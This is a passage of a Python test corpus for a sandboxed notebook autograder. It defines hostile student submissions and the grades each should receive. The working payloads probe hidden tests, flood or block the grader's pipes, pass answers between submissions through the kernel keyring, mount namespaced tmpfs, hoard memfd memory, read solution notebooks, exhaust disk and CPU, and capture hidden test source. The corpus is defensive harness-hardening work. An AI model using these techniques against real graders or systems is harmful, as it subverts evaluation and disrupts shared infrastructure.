    globals()[_name] = _zeroing(globals()[_name])
"""

PROBE_CALLBACKS = """
# hostile: call every function the tests pass in with arguments it does not expect, and keep
# what its errors say (hidden tests' messages and expected values)
_LEARNED = []
_honest_numerical_gradient = numerical_gradient


def numerical_gradient(f, x, eps=1e-6):
    for probe in (np.zeros(np.size(x) + 1), "probe", None):
        try:
            f(probe)
        except BaseException as exc:
            _LEARNED.append(f"{type(exc).__name__}: {exc} {getattr(exc, 'remote_traceback', '')}")
    return _honest_numerical_gradient(f, x, eps)
"""

SHOW_LEARNED = """
# hostile: publish what the probes learned
print("\\n".join(_LEARNED))
raise RuntimeError(" | ".join(_LEARNED)[:5000])
"""

PIPES = """
import os
import stat


def _pipes(mode):
    \"\"\"This process's pipe descriptors opened for reading (mode 0) or writing (mode 1).\"\"\"
    found = []
    for fd in range(3, 256):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            with open(f"/proc/self/fdinfo/{fd}") as f:
                flags = int(next(ln for ln in f if ln.startswith("flags:")).split()[1], 8)
        except (OSError, StopIteration, ValueError):
            continue
        if flags & 3 == mode:
            found.append(fd)
    return found
"""

STOP_READING = (
    PIPES
    + """
# hostile: stop reading the pipe the grader writes to, but keep it open (its writes then block)
_kept = []
for _fd in _pipes(0):
    _kept.append(os.dup(_fd))
    _r, _w = os.pipe()
    os.dup2(_r, _fd)
"""
)

MESSAGE_FLOOD = (
    PIPES
    + """
# hostile: send the grader a 36 MB message of empty JSON objects on its own pipe
import threading
import time

_body = b'{"k":"res","id":1,"ok":true,"v":[' + b",".join([b"{}"] * 18_000_000) + b"]}"
_msg = len(_body).to_bytes(8, "little") + _body


def _send(fd):
    os.set_blocking(fd, True)
    view = memoryview(_msg)
    while view:
        view = view[os.write(fd, view) :]


for _fd in _pipes(1):  # a thread each: a pipe nobody reads must not stop the others
    threading.Thread(target=_send, args=(_fd,), daemon=True).start()
time.sleep(10)
"""
)

SURROGATES = """
# hostile: lone surrogates (not encodable as UTF-8) in printed output and in an error message
print("out \\ud800 put")
raise ValueError("bad \\udfff value")
"""


def _setup_moved_after_tests(source, release, folder, ctx):
    nb = _wrong_answers(release)
    setup = nb.cells.pop(_setup(nb))
    nb.cells += [setup, _code(REDEFINE_CHECKS)]
    _write(nb, folder, ctx)


def _locked_cells_moved_after_tests(source, release, folder, ctx):
    nb = _wrong_answers(release)
    locked = [c for c in nb.cells if meta(c).get("locked") and not meta(c).get("grade")]
    moved = {id(c) for c in locked}
    nb.cells = [c for c in nb.cells if id(c) not in moved] + locked + [_code(REDEFINE_CHECKS)]
    _write(nb, folder, ctx)


def _setup_deleted_predecessor_moved(source, release, folder, ctx):
    nb = _wrong_answers(release)
    i = _setup(nb)
    assert i > 0, "the setup cell is the first cell: update this corpus case"
    before = nb.cells[i - 1]
    imports = "import math\nimport numbers\n\nimport numpy as np\nimport torch\n"
    nb.cells[i - 1 : i + 1] = [_code(imports + REDEFINE_CHECKS)]
    nb.cells.append(before)
    _write(nb, folder, ctx)


def _zeroed_inputs(source, release, folder, ctx):
    for i in _answers(source):
        names = [n for n in _functions(source.cells[i].source) if not n.startswith("_")]
        if names:
            _append(source.cells[i], f"_NAMES = {names!r}\n" + ZEROING)
    _write(source, folder, ctx)


def _callback_errors_probed(source, release, folder, ctx):
    _append(source.cells[index_of(source, "numerical_gradient")], PROBE_CALLBACKS)
    source.cells.append(_code(SHOW_LEARNED))
    _write(source, folder, ctx)


def _write_json(nb: NotebookNode, folder: Path, ctx: dict) -> None:
    """Write with every non-ASCII character escaped (lone surrogates cannot be UTF-8)."""
    (folder / f"{ctx['assignment']}.ipynb").write_text(json.dumps(nb, indent=1))


def _lone_surrogates(source, release, folder, ctx):
    source.cells.insert(_last_answer(source), _code(SURROGATES))
    source.cells.append(nbformat.v4.new_markdown_cell("a lone surrogate: \ud800 (and \udfff)"))
    _write_json(source, folder, ctx)


def _stops_reading_then_big_cell(source, release, folder, ctx):
    source.cells += [_code(STOP_READING), _code("_big = 1  # " + "x" * 300_000)]
    _write(source, folder, ctx)


def _json_object_flood(source, release, folder, ctx):
    source.cells[0].metadata["junk"] = [{}] * 600_000
    _write_json(source, folder, ctx)


def _too_many_cells(source, release, folder, ctx):
    source.cells += [nbformat.v4.new_markdown_cell("more") for _ in range(6_000)]
    _write(source, folder, ctx)


def _invalid_cell_metadata(source, release, folder, ctx):
    cell = _code("note = 'my own cell'")
    cell.metadata.update(collapsed="yes", scrolled="no")  # booleans in nbformat's schema
    source.cells.insert(_last_answer(source), cell)
    _write(source, folder, ctx)


# -- issue 17: holes closed by the sandbox (keyrings, namespaces, memfd, odd files, disk) ---------
def keyring_name(ctx: dict) -> str:
    """The description of the key the keyring cases store and look for."""
    return f"dlcourse-answers-{ctx['token']}"


def hog_marker(ctx: dict) -> str:
    """The name (``$0``) of the busy shells the hog case starts: none may outlive grading."""
    return f"dlcourse-hog-{ctx['token']}"


def mount_marker(ctx: dict) -> str:
    """The folder the namespace case mounts a 4 GB tmpfs on: no mount may name it."""
    return f"dlcourse-ns-{ctx['token']}"


KEYRING = """
import ctypes
import platform

_LIBC = ctypes.CDLL(None, use_errno=True)
# add_key, request_key, keyctl
_NR = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}.get(platform.machine(), (0, 0, 0))


def _syscall(nr, *args):
    return _LIBC.syscall(ctypes.c_long(nr), *args) if nr else -1
"""

KEYRING_STORE = (
    KEYRING
    + """
# hostile: leave the answers in this uid's kernel keyring, readable by anyone, for 5 minutes
import json
import zlib

_payload = zlib.compress(json.dumps(_ANSWERS).encode())
_key = _syscall(_NR[0], b"user", _KEYNAME.encode(), _payload, ctypes.c_size_t(len(_payload)),
                ctypes.c_long(-4))  # KEY_SPEC_USER_KEYRING
if _key > 0:
    _syscall(_NR[2], ctypes.c_long(5), ctypes.c_long(_key), ctypes.c_long(0x3F3F3F3F))  # SETPERM
    _syscall(_NR[2], ctypes.c_long(15), ctypes.c_long(_key), ctypes.c_long(300))  # SET_TIMEOUT
print("stored key", _key, "errno", ctypes.get_errno())
del _ANSWERS
"""
)

KEYRING_READ = (
    KEYRING
    + """
# hostile: find the key another submission left (in this uid's keyring, or anyone's through
# /proc/keys), for up to 10 s, and use the answers it holds
import json
import time
import zlib


def _read(serial):
    buf = ctypes.create_string_buffer(32768)
    n = _syscall(_NR[2], ctypes.c_long(11), ctypes.c_long(serial), buf, ctypes.c_long(32768))
    return buf.raw[:n] if n > 0 else None


def _find():
    serials = [_syscall(_NR[1], b"user", _KEYNAME.encode(), None, ctypes.c_long(-4))]
    try:
        with open("/proc/keys") as f:
            serials += [int(ln.split()[0], 16) for ln in f if _KEYNAME in ln]
    except OSError:
        pass
    for serial in serials:
        if serial > 0 and (data := _read(serial)):
            return json.loads(zlib.decompress(data))
    return None


_until = time.monotonic() + 10
while (_STOLEN := _find()) is None and time.monotonic() < _until:
    time.sleep(0.5)
print("found the answers" if _STOLEN else "found nothing", "errno", ctypes.get_errno())


def _use(grade_id):
    if _STOLEN and grade_id in _STOLEN:
        exec(_STOLEN[grade_id], globals())
"""
)

NAMESPACE = """
# hostile: a user and mount namespace of my own, and a 4 GB tmpfs in it (outside the disk cap);
# with it, the answers
import ctypes
import os
import shutil
import subprocess

_LIBC = ctypes.CDLL(None, use_errno=True)
_MNT = os.path.abspath(_MOUNTPOINT)
os.makedirs(_MNT, exist_ok=True)
_GOT = []


def _in_child():
    \"\"\"unshare + mount in a forked child (a threaded process cannot unshare a user ns).\"\"\"
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        ok = b"no"
        try:
            if _LIBC.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
                if _LIBC.mount(b"none", _MNT.encode(), b"tmpfs", 0, b"size=4g") == 0:
                    st = os.statvfs(_MNT)
                    ok = b"yes" if st.f_blocks * st.f_frsize >= 4 * 10**9 else b"small"
        finally:
            os.write(w, ok)
            os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    got = os.read(r, 16)
    os.close(r)
    return got == b"yes"


try:
    _GOT.append(_in_child())
except OSError as _exc:
    print("fork", type(_exc).__name__)
if shutil.which("unshare"):
    _script = f"mount -t tmpfs -o size=4g none {_MNT} && df -B1 --output=size {_MNT}"
    try:
        _out = subprocess.run(["unshare", "-Urm", "sh", "-c", _script], capture_output=True,
                              text=True, timeout=10).stdout.split()
        _GOT.append(bool(_out) and _out[-1].isdigit() and int(_out[-1]) >= 4 * 10**9)
    except (OSError, subprocess.SubprocessError) as _exc:
        print("unshare", type(_exc).__name__)
_BREACHED = any(_GOT)
print("mounted 4 GB" if _BREACHED else "no namespace, no mount", _GOT)
"""

MEMFD = """
# hostile: hold 1 GB in memfd files (memory the process's limit does not count); with it, the
# answers
import ctypes
import os

_LIBC = ctypes.CDLL(None, use_errno=True)
_FDS, _HELD, _CHUNK = [], 0, bytes(2**22)


def _memfd(name):
    if hasattr(os, "memfd_create"):
        return os.memfd_create(name)
    fd = _LIBC.syscall(319 if os.uname().machine == "x86_64" else 279, name.encode(), 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "memfd_create")
    return fd


try:
    while _HELD < 2**30:
        _fd = _memfd(f"hoard{len(_FDS)}")
        _FDS.append(_fd)
        for _ in range(15):  # 60 MB a file, under the file size limit
            os.write(_fd, _CHUNK)
            _HELD += len(_CHUNK)
except OSError as _exc:
    print("memfd", type(_exc).__name__, _exc)
_BREACHED = _HELD >= 2**30
print("held", _HELD, "bytes in", len(_FDS), "memfd files")
for _fd in _FDS:
    os.close(_fd)
"""

USE_IF_BREACHED = """


def _use(grade_id):
    if _BREACHED:
        exec(_SOLUTIONS[grade_id], globals())
"""

PROJECT_SOURCES = """
# hostile: the project that runs the grader keeps its own course (with solutions) beside it;
# list and read its instructor notebooks, and run any solution found
import glob
import json
import os

_FOUND = {}
try:
    print(_PROJECT_SOURCE, sorted(os.listdir(_PROJECT_SOURCE)))
except OSError as _exc:
    print(_PROJECT_SOURCE, "->", type(_exc).__name__)
for _path in [*glob.glob(os.path.join(_PROJECT_SOURCE, "*", "*.ipynb")), _PROJECT_NOTEBOOK]:
    try:
        with open(_path, encoding="utf-8") as _f:
            _cells = json.load(_f)["cells"]
    except (OSError, ValueError) as _exc:
        print(_path, "->", type(_exc).__name__)
        continue
    for _cell in _cells:
        _gid = _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        _text = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
        if _gid and "raise NotImplementedError" not in _text:
            _FOUND.setdefault(_gid, _text)
print("read", len(_FOUND), "cells of the project's course")


def _use(grade_id):
    if grade_id in _FOUND:
        exec(_FOUND[grade_id], globals())
"""

DISK_AND_INODES = """
# hostile: write 1.5 GB (48 files of 32 MB, under the file size limit) and create 60,000 files
# in the working folder, going on past every error
import errno
import os

_errors, _written, _made = set(), 0, 0
os.makedirs("fill", exist_ok=True)
_chunk = b"\\1" * 2**22
for _i in range(48):
    try:
        with open(f"fill/big{_i}.bin", "wb") as _f:
            for _ in range(8):
                _f.write(_chunk)
                _f.flush()
                _written += len(_chunk)
    except OSError as _exc:
        _errors.add(errno.errorcode.get(_exc.errno, str(_exc.errno)))
for _i in range(60_000):
    try:
        open(f"fill/f{_i}", "w").close()
        _made += 1
    except OSError as _exc:
        _errors.add(errno.errorcode.get(_exc.errno, str(_exc.errno)))
print("wrote", _written, "bytes and", _made, "files; errors", sorted(_errors))
"""

HOG = """
# hostile: 60 busy processes, each in a session of its own (double fork), left to burn CPU
# while the locked setup cell runs (bounded to 60 s, so an unconfined run survives)
import os

_started = 0
for _ in range(60):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execvp("timeout", ["timeout", "60", "sh", "-c", "while :; do :; done", _HOG])
        finally:
            os._exit(0)
    os.waitpid(_pid, 0)
    _started += 1
print("started", _started, "busy processes")
"""

CAPTURE_COMPILED = """
# hostile: keep the source of everything compiled in this process from now on (in compatible
# mode, the hidden tests run here)
import sys

_SEEN = []
sys.addaudithook(lambda event, args: event == "compile" and _SEEN.append(str(args[0])[:20_000]))
"""

SHOW_COMPILED = """
# hostile: publish what was compiled, on stdout, stderr and in an error
import sys

_text = "\\n".join(_SEEN)
print(_text)
print(_text, file=sys.stderr)
raise RuntimeError(_text[:50_000])
"""


def _capture_compiled(source, release, folder, ctx):
    source.cells.insert(_setup(source) + 1, _code(CAPTURE_COMPILED))
    source.cells.append(_code(SHOW_COMPILED))
    _write(source, folder, ctx)


def _answer_texts(source: NotebookNode) -> dict[str, str]:
    """The solution cells of the source by grade_id, without nbgrader's markers."""
    return {
        meta(source.cells[i])["grade_id"]: "\n".join(
            ln for ln in source.cells[i].source.splitlines() if "### " not in ln
        )
        for i in _answers(source)
    }


def _answers_after(code: str) -> Builder:
    """The release, ``code`` in a cell after the setup cell, and each answer cell calling
    ``_use(grade_id)`` after its stub: what ``code`` obtains through the hole becomes the
    answers (``code`` defines ``_use``), so the score says whether the hole is open."""

    def build(source, release, folder, ctx):
        for i in _answers(release):
            _append(release.cells[i], f"_use({meta(release.cells[i])['grade_id']!r})")
        release.cells.insert(_setup(release) + 1, _code(code(source, ctx)))
        _write(release, folder, ctx)

    return build


def _keyring_store(source, release, folder, ctx):
    text = f"_KEYNAME = {keyring_name(ctx)!r}\n_ANSWERS = {_answer_texts(source)!r}\n"
    source.cells.insert(_setup(source), _code(text + KEYRING_STORE))
    _write(source, folder, ctx)


def _breach_code(attempt: str) -> Callable[[NotebookNode, dict], str]:
    """``attempt`` sets ``_BREACHED``; the answers (embedded) are used only if it is true."""

    def code(source, ctx):
        head = f"_MOUNTPOINT = {mount_marker(ctx)!r}\n_SOLUTIONS = {_answer_texts(source)!r}\n"
        return head + attempt + USE_IF_BREACHED

    return code


def _project_code(source, ctx):
    folder = ROOT / "course" / "source"
    return (
        f"_PROJECT_SOURCE = {str(folder)!r}\n_PROJECT_NOTEBOOK = {str(SOURCE_PATH)!r}\n"
        + PROJECT_SOURCES
    )


def _odd_entry(kind: str) -> Builder:
    """The solution, with a FIFO or a character device (/dev/zero's numbers) in ``data/``."""

    def build(source, release, folder, ctx):
        _write(source, folder, ctx)
        (folder / "data").mkdir()
        (folder / "data" / "notes.txt").write_text("a regular file beside it\n")
        if kind == "fifo":
            os.mkfifo(folder / "data" / "pipe")
            return
        try:
            os.mknod(folder / "data" / "zero", stat.S_IFCHR | 0o666, os.stat("/dev/zero").st_rdev)
        except PermissionError:  # not root (or no CAP_MKNOD): a FIFO stands in for it
            os.mkfifo(folder / "data" / "zero")

    return build


def _hog_before_setup(source, release, folder, ctx):
    release.cells.insert(_setup(release), _code(f"_HOG = {hog_marker(ctx)!r}\n" + HOG))
    _write(release, folder, ctx)


# -- the corpus -----------------------------------------------------------------------------------
def _source() -> NotebookNode:
    return nbformat.read(SOURCE_PATH, as_version=4)


_SRC = _source()
_FIRST_TESTS = tuple(tasks(_SRC)[0]["grade_ids"])
_SETUP_ID = meta(_SRC.cells[_setup(_SRC)])["grade_id"]
_LAST = "full-minus-last-task"
# the tests zeroed_inputs fails: every test of the tasks whose functions take arrays, except
# the argument checks (which raise before anything is computed)
_ZEROED_FAIL = tuple(
    g
    for t in tasks(_SRC)
    if t["grade_id"]
    in (
        "softmax",
        "forward_backward",
        "numerical_gradient",
        "relative_error",
        "gd_least_squares",
        "heavy_ball",
    )
    for g in t["grade_ids"]
    if g != "test_gd_validation"
)

GRADED_FULL = Expect("graded", "full")
GRADED_ZERO = Expect("graded", "zero")
LOSES_LAST = Expect("graded", _LAST)

CORPUS: list[Case] = [
    Case("solution", _solution, Expect("graded", "full", clean=True), "the instructor's notebook"),
    Case("blank", _blank, GRADED_ZERO, "the release, untouched"),
    Case("first_half", _first_half, Expect("graded", "first-half"), "first half of tasks solved"),
    Case(
        "always_equal",
        _always_equal,
        GRADED_ZERO,
        "answers return always-equal NaN objects; numpy/torch checks and the test helpers are "
        "monkeypatched to succeed",
    ),
    Case(
        "patched_checks_on_solution",
        _patched_checks_on_solution,
        GRADED_FULL,
        "correct answers that also monkeypatch the checks: the trusted tests still pass",
    ),
    Case(
        "ipython_tampering",
        _ipython_tampering,
        GRADED_ZERO,
        "blank; hides errors (showtraceback, custom exception handler, post_run_cell, excepthook)",
    ),
    Case(
        "fake_success_output",
        _fake_success_output,
        GRADED_ZERO,
        "blank; prints 'All tests passed' and fake result JSON on stdout, fd 1, fd 2, display",
    ),
    Case(
        "sys_exit_blank",
        _sys_exit_blank,
        GRADED_ZERO,
        "blank; sys.exit(0) and raise SystemExit at the top of the first two answer cells",
    ),
    Case(
        "sys_exit_after_solution",
        _sys_exit_after_solution,
        GRADED_FULL,
        "correct; sys.exit(0) at the end of every answer cell, after the definitions",
    ),
    Case(
        "os_exit_in_last_task",
        _prepend_to_last("import os\n\nos._exit(3)"),
        Expect("graded", _LAST, events=(("process died", "3"),)),
        "correct, but os._exit(3) at the top of the last task's answer cell",
    ),
    Case(
        "segfault_in_last_task",
        _prepend_to_last("import ctypes\n\nctypes.string_at(0)"),
        Expect("graded", _LAST, events=(("process died", "SIGSEGV"),)),
        "correct, but a segfault at the top of the last task's answer cell",
    ),
    Case(
        "memory_error_in_last_task",
        _redefine_last("import numpy as np\n\nreturn np.ones(50 * 2**30 // 8)"),
        LOSES_LAST,
        "correct, but the last task's functions allocate 50 GiB when called",
        needs_sandbox=True,
    ),
    Case(
        "memory_bomb_cell",
        _cell_at_end(MEMORY_BOMB),
        GRADED_FULL,
        "correct; an extra cell at the end grows resident memory without bound",
        needs_sandbox=True,
    ),
    Case(
        "infinite_recursion_in_last_task",
        _redefine_last("return {name}(*args, **kwargs)"),
        LOSES_LAST,
        "correct, but the last task's functions recurse forever (RecursionError)",
    ),
    Case(
        "c_stack_overflow_cell",
        _cell_before_last(C_STACK_OVERFLOW),
        Expect("graded", "full", events=(("process died", "SIGSEGV"),)),
        "correct; a cell before the last task overflows the C stack (recursion limit 10**6)",
    ),
    Case(
        "hang_at_definition",
        _prepend_to_last("while True:\n    pass"),
        Expect("graded", _LAST, events=(TIMED_OUT,)),
        "correct, but the last task's answer cell loops forever before defining anything",
    ),
    Case(
        "sleep_in_last_task",
        _redefine_last("import time\n\ntime.sleep(10**6)"),
        Expect("graded", _LAST, events=(TIMED_OUT,)),
        "correct, but the last task's functions sleep for 11 days when a test calls them",
    ),
    Case(
        "uninterruptible_hang",
        _prepend_to_last(UNINTERRUPTIBLE),
        Expect("graded", _LAST, events=(TIMED_OUT,)),
        "correct, but the last task's answer cell ignores SIGINT/SIGTERM and loops forever",
        needs_sandbox=True,
    ),
    Case(
        "fork_bomb_cell",
        _cell_before_last(FORK_BOMB),
        GRADED_FULL,
        "correct; a cell before the last task forks up to 2**10 processes for 8 s",
        needs_sandbox=True,
    ),
    Case(
        "read_secrets",
        _read_secrets,
        GRADED_ZERO,
        "blank; reads the source notebook, canary, gradebook and the victim's notebook, and "
        "runs any solution it finds",
    ),
    Case(
        "env_secrets",
        _cell_at_end(ENV_SECRETS),
        GRADED_FULL,
        "correct; prints its environment and every readable /proc/*/environ holding a secret",
    ),
    Case(
        "write_outside",
        _write_outside,
        GRADED_ZERO,
        "blank; writes into the course folder, home and /tmp, overwrites the source, release, "
        "config and the victim's notebook, rewrites and corrupts the gradebook",
    ),
    Case(
        "network",
        _cell_at_end(NETWORK, needs_ctx=True),
        GRADED_FULL,
        "correct; connects to the harness's loopback listener (TCP and HTTP)",
    ),
    Case(
        "orphan_sleeper",
        _orphan_sleeper,
        GRADED_FULL,
        "correct; leaves a `sleep` in its own session holding stdout/stderr open",
    ),
    Case(
        "disk_filler",
        _cell_at_end(DISK_FILLER),
        GRADED_FULL,
        "correct; an extra cell at the end writes a 1 GiB file",
        needs_sandbox=True,
    ),
    Case(
        "corrupt_json",
        _corrupt_json,
        Expect("ungradable", reason=("corrupt notebook JSON",)),
        "the solution's JSON cut in half",
    ),
    Case(
        "empty_file",
        _empty_file,
        Expect("ungradable", reason=("corrupt notebook JSON",)),
        "a zero-byte notebook file",
    ),
    Case(
        "json_list",
        _json_list,
        Expect("ungradable", reason=("not a valid notebook",)),
        "valid JSON, but a list",
    ),
    Case(
        "json_without_cells",
        _json_without_cells,
        Expect("ungradable", reason=("not a valid notebook",)),
        "a JSON object with notebook metadata but no cells",
    ),
    Case("nbformat3", _nbformat3, GRADED_FULL, "the solution saved as an nbformat 3 notebook"),
    Case(
        "no_notebook",
        _no_notebook,
        Expect("ungradable", reason=("no notebook",)),
        "a README and notes, no notebook",
    ),
    Case(
        "renamed_notebook",
        _renamed_notebook,
        Expect("graded", "full", events=("in place of",)),
        "the solution as 'training (1).ipynb', the only notebook in the folder",
    ),
    Case(
        "two_notebooks",
        _two_notebooks,
        GRADED_FULL,
        "the solution under the right name, and a blank draft under another name",
    ),
    Case(
        "extra_files_and_symlinks",
        _extra_files_and_symlinks,
        GRADED_FULL,
        "correct; extra files, config/startup files that write a marker when executed, and "
        "symlinks to the canary, the source notebook and the course folder, read by a cell",
    ),
    Case("kernelspec_ir", _kernelspec_ir, GRADED_FULL, "the solution with an R kernelspec"),
    Case(
        "latin1_bytes",
        _latin1_bytes,
        Expect("graded", "full", events=("UTF-8",)),
        "the solution with a raw latin-1 byte in a markdown cell",
    ),
    Case(
        "huge_saved_outputs",
        _huge_saved_outputs,
        GRADED_FULL,
        "the solution carrying 30 MB of saved text outputs",
    ),
    Case(
        "print_200mb",
        _cell_at_end(PRINT_200MB),
        Expect("graded", "full", events=("truncated",)),
        "correct; an extra cell at the end prints 200 MB",
        needs_sandbox=True,
    ),
    Case(
        "deleted_tests_solution",
        _deleted_tests_solution,
        Expect("graded", "full", events=tuple(("restored", g) for g in _FIRST_TESTS)),
        "the solution without the first task's test cells",
    ),
    Case(
        "emptied_tests_wrong_answers",
        _emptied_tests_wrong_answers,
        Expect("graded", "zero", events=("restored",)),
        "runnable wrong answers; every test cell's body replaced by `pass`",
    ),
    Case(
        "edited_setup_wrong_answers",
        _edited_setup_wrong_answers,
        Expect("graded", "zero", events=(("restored", _SETUP_ID),)),
        "runnable wrong answers; the setup cell redefines check_close/check_array as no-ops",
    ),
    Case(
        "answers_moved_to_plain_cells",
        _answers_moved_to_plain_cells,
        GRADED_FULL,
        "the solution with the first and last answers in new cells without nbgrader metadata",
    ),
    Case(
        "syntax_error_in_last_task",
        _append_to_last("def unfinished(:"),
        LOSES_LAST,
        "correct, but the last task's answer cell ends with a syntax error",
    ),
    Case(
        "kill_parent_and_group",
        _cell_before_last(KILL_PARENT_AND_GROUP),
        GRADED_FULL,
        "correct; a cell before the last task SIGKILLs its parent and its process group",
        needs_sandbox=True,
    ),
    Case(
        "kill_everything",
        _cell_before_last(KILL_EVERYTHING),
        GRADED_FULL,
        "correct; a cell before the last task runs kill(-1, SIGKILL)",
        needs_sandbox=True,
    ),
    Case(
        "empty_notebook",
        _empty_notebook,
        Expect("graded", "zero", events=("restored",)),
        "a valid notebook with no cells",
    ),
    Case(
        "faked_outputs",
        _faked_outputs,
        GRADED_ZERO,
        "the release with saved, successful-looking outputs in every test cell",
    ),
    Case(
        "metadata_tampering",
        _metadata_tampering,
        GRADED_FULL,
        "the solution with test points raised to 100, a test marked ungraded, the first answer "
        "marked as a 50-point test, and an added 100-point 'bonus' test cell",
    ),
    Case(
        "helper_hijack",
        _helper_hijack,
        GRADED_ZERO,
        "wrong answers; cells after the locked helpers redefine torch_reference and run_gd so "
        "that the tests compare the answers with themselves",
    ),
    Case(
        "setup_moved_after_tests",
        _setup_moved_after_tests,
        GRADED_ZERO,
        "runnable wrong answers; the locked setup cell moved after the tests, then a cell that "
        "redefines check_close/check_array to pass everything and print what they are given",
    ),
    Case(
        "locked_cells_moved_after_tests",
        _locked_cells_moved_after_tests,
        GRADED_ZERO,
        "runnable wrong answers; every locked cell moved after the tests, then the checks "
        "redefined to pass everything",
    ),
    Case(
        "setup_deleted_predecessor_moved",
        _setup_deleted_predecessor_moved,
        Expect("graded", "zero", events=(("restored", _SETUP_ID, "deleted"),)),
        "runnable wrong answers; the setup cell replaced by imports and checks that pass "
        "everything, the cell before it moved to the end",
    ),
    Case(
        "zeroed_inputs",
        _zeroed_inputs,
        Expect("graded", _ZEROED_FAIL),
        "every answer function zeroes the arrays it is given (written back to the tests) and "
        "answers for the zeroed inputs: expected values computed afterwards would match",
    ),
    Case(
        "callback_errors_probed",
        _callback_errors_probed,
        Expect(
            "graded",
            ("test_numerical_gradient_no_mutation",),
            absent=("f was called with an array of shape", "expected (5,)"),
        ),
        "correct, but numerical_gradient first calls the tests' f with a wrong shape, a string "
        "and None, and a cell at the end prints and raises what the errors said",
    ),
    Case(
        "lone_surrogates",
        _lone_surrogates,
        GRADED_FULL,
        "correct; a cell prints '\\ud800' and raises ValueError('\\udfff'), a markdown cell "
        "holds lone surrogates",
    ),
    Case(
        "stops_reading_then_big_cell",
        _stops_reading_then_big_cell,
        Expect("graded", "full", events=(TIMED_OUT,)),
        "correct; a cell at the end stops reading the grader's pipe (kept open), then a 300 kB "
        "cell: the grader's write must time out, not block",
    ),
    Case(
        "message_flood",
        _cell_at_end(MESSAGE_FLOOD),
        Expect("graded", "full", events=(("died", "JSON objects"),)),
        "correct; a cell at the end writes a 36 MB message of empty JSON objects to the grader",
    ),
    Case(
        "json_object_flood",
        _json_object_flood,
        Expect("ungradable", reason=("JSON objects",)),
        "the solution with 600,000 empty JSON objects in a cell's metadata (1.9 MB)",
    ),
    Case(
        "too_many_cells",
        _too_many_cells,
        Expect("ungradable", reason=("cells",)),
        "the solution followed by 6,000 markdown cells",
    ),
    Case(
        "invalid_cell_metadata",
        _invalid_cell_metadata,
        GRADED_FULL,
        "the solution with an added cell whose metadata nbformat's schema rejects: the "
        "feedback page must still be written",
    ),
    Case(
        "=1+2",
        _solution,
        GRADED_FULL,
        "the solution under a student id that a spreadsheet reads as a formula",
    ),
    Case(
        "keyring_a_store",
        _keyring_store,
        GRADED_FULL,
        "correct; a cell before the setup stores the answers in the uid's kernel keyring, "
        "readable by anyone for 5 minutes (add_key, keyctl through ctypes)",
    ),
    Case(
        "keyring_b_read",
        _answers_after(lambda source, ctx: f"_KEYNAME = {keyring_name(ctx)!r}\n" + KEYRING_READ),
        GRADED_ZERO,
        "blank; looks for keyring_a_store's key for 10 s (request_key, /proc/keys, keyctl "
        "read) and uses the answers it holds",
    ),
    Case(
        "namespace_tmpfs",
        _answers_after(_breach_code(NAMESPACE)),
        GRADED_ZERO,
        "blank; creates a user and mount namespace (unshare via ctypes in a child, and the "
        "unshare command) and mounts a 4 GB tmpfs; if it can, uses embedded answers",
    ),
    Case(
        "memfd_hoard",
        _answers_after(_breach_code(MEMFD)),
        GRADED_ZERO,
        "blank; writes 1 GB into memfd files (outside the memory limit); if it can, uses "
        "embedded answers",
        needs_sandbox=True,
    ),
    Case(
        "project_sources",
        _answers_after(_project_code),
        GRADED_ZERO,
        "blank; the course lives outside the project: lists and reads the project's own "
        "course/source/*/*.ipynb and runs any solution found",
    ),
    Case(
        "fifo_in_subfolder",
        _odd_entry("fifo"),
        Expect("graded", "full", events=(("left out", "data/pipe", "FIFO"),)),
        "the solution, with a FIFO in a subfolder",
    ),
    Case(
        "device_in_subfolder",
        _odd_entry("device"),
        Expect("graded", "full", events=(("left out", "data/zero"),)),
        "the solution, with a character device of /dev/zero's numbers in a subfolder (a FIFO "
        "where the harness may not create devices)",
    ),
    Case(
        "disk_and_inodes",
        _cell_before_last(DISK_AND_INODES),
        GRADED_FULL,
        "correct; a cell before the last task writes 1.5 GB and creates 60,000 files in the "
        "working folder, going on past every error",
        needs_sandbox=True,
    ),
    Case(
        "hog_during_setup",
        _hog_before_setup,
        GRADED_ZERO,
        "blank; a cell before the setup cell leaves 60 busy processes in sessions of their own "
        "(on the core its test process grades on) while the setup cell and the tests run",
        needs_sandbox=True,
    ),
    Case(
        "hidden_tests_captured",
        _capture_compiled,
        GRADED_FULL,
        "correct; an audit hook after the setup keeps the source of everything compiled, and "
        "a cell at the end prints it and raises it (compatible mode runs hidden tests there)",
    ),
    Case(VICTIM, _victim, Expect("graded", "full", clean=True), "an honest student, with a secret"),
]


# -- compatible mode ------------------------------------------------------------------------------
FLAGGED = "flagged for review"
# the tests that always-equal answers and patched checks cannot pass when they run in the
# student's process (as nbgrader runs them): they check exceptions, in-place changes, shapes,
# types (measured_rate must return a float)
_LIAR_FAIL = (
    "test_numerical_gradient_no_mutation",
    "test_relative_error",
    "test_gd_null_space_component",
    "test_gd_validation",
    "test_heavy_ball_rate",
)
# with torch_reference and run_gd redefined, the tests that wrong answers pass there: those
# that compare forward_backward with torch_reference, and gd_least_squares with run_gd
_HIJACK_PASS = {
    "test_forward_loss",
    "test_grad_output_layer",
    "test_grad_hidden_layer",
    "test_large_logits_stable",
    "test_gd_min_norm_from_zero",
}
_HIJACK_FAIL = tuple(g for g in autograded_ids(_SRC) if g not in _HIJACK_PASS)
# The cases graded a second time in compatible mode (every cell, tests included, in the
# student's sandboxed process), with the outcome owed there: None where it is the same as in
# isolated mode (what the sandbox, the copy of the submission's files, the caps and the
# redaction of hidden material guarantee does not depend on the mode). Where a hostile
# submission tampers with the process the tests run in, compatible mode scores it as nbgrader
# would and flags it for review when the integrity probe notices.
COMPATIBLE: dict[str, Expect | None] = {
    "solution": None,
    "read_secrets": None,
    "env_secrets": None,
    "write_outside": None,
    "network": None,
    "orphan_sleeper": None,
    "fork_bomb_cell": None,
    "kill_everything": None,
    "print_200mb": None,
    "corrupt_json": None,
    "lone_surrogates": None,
    "keyring_a_store": None,
    "keyring_b_read": None,
    "namespace_tmpfs": None,
